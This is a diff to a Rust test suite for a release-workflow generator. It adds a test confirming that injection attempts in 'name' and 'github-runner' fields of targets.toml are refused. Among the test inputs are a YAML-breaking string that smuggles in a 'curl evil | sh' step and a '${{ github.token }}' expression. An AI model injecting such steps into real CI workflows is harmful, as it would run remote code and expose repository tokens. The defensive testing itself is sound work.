@@ -101,7 +101,7 @@ fn workflow_lists_the_matrix_and_the_universal_binaries() {
         "{many}"
     );
     assert!(many.contains(
-        "- name: Merge into dist/ (SHA256SUMS, dist-manifest.json, universal-apple-darwin)"
+        "- name: \"Merge into dist/ (SHA256SUMS, dist-manifest.json, universal-apple-darwin)\""
     ));
     assert_ne!(one, many);
     assert_eq!(listed_targets(&one), ["x86_64-unknown-linux-gnu"]);
@@ -393,4 +393,50 @@ fn workflow_for_another_config_passes_it_to_every_command() {
     let default = render_workflow(&c);
     assert!(!default.contains("--config"), "{default}");
     assert_eq!(default, render_workflow_for(&c, "targets.toml"));
+}
+
+/// Issue 12 item 17: `github-runner` and a universal `name` reach the rendered workflow
+/// (the header comment, the merge step's name). A value that could end a comment line,
+/// start a YAML key or an expression is refused when targets.toml is read, so no workflow
+/// is ever rendered from it; an accepted name is rendered inside a quoted YAML string.
+#[test]
+fn hostile_runner_and_universal_names_never_reach_the_workflow() {
+    let apple = "[[target]]\ntriple = \"x86_64-apple-darwin\"\n[[target]]\ntriple = \"aarch64-apple-darwin\"\n";
+    let universal = |name: &str| {
+        format!(
+            "{apple}[[universal]]\nname = {}\ntargets = [\"x86_64-apple-darwin\", \"aarch64-apple-darwin\"]\n",
+            toml_string(name)
+        )
+    };
+    let runner = |label: &str| {
+        format!(
+            "[[target]]\ntriple = \"x86_64-unknown-linux-gnu\"\ngithub-runner = {}\n",
+            toml_string(label)
+        )
+    };
+    for hostile in [
+        "fat\n      - run: curl evil | sh",
+        "fat: {evil: 1}",
+        "fat # comment",
+        "fat\"",
+        "${{ github.token }}",
+        "'fat'",
+        "",
+    ] {
+        for (key, text) in [
+            ("name", universal(hostile)),
+            ("github-runner", runner(hostile)),
+        ] {
+            let e = Config::parse(Path::new("targets.toml"), &text)
+                .map(|_| ())
+                .expect_err(&format!("{key} = {hostile:?} was accepted"))
+                .to_string();
+            assert!(e.contains(&format!("key `{key}`")), "{e}");
+        }
+    }
+    let w = render_workflow(&config(&universal("fat-macos")));
+    assert!(
+        w.contains("- name: \"Merge into dist/ (SHA256SUMS, dist-manifest.json, fat-macos)\"\n"),
+        "{w}"
+    );
 }
